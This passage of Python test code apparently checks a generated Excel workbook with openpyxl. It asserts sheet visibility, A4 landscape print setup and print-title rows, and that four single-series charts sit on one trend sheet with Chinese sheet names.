    visible = [ws for ws in wb.worksheets if ws.sheet_state == "visible"]
    assert [ws.title for ws in wb.worksheets if ws.sheet_state == "hidden"] == ["图表数据"]
    for ws in visible:
        assert (ws.page_setup.paperSize, ws.page_setup.orientation) == (9, "landscape"), ws.title
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToHeight == 0, ws.title
        assert ws.print_title_rows == ("$1:$1" if ws.title != "说明" else None), ws.title
    charts = wb["整体趋势"]._charts
    assert len(charts) == 4 and all(len(chart.series) == 1 for chart in charts)  # one measure each, no legend
    assert all(not ws._charts for ws in visible if ws.title != "整体趋势")
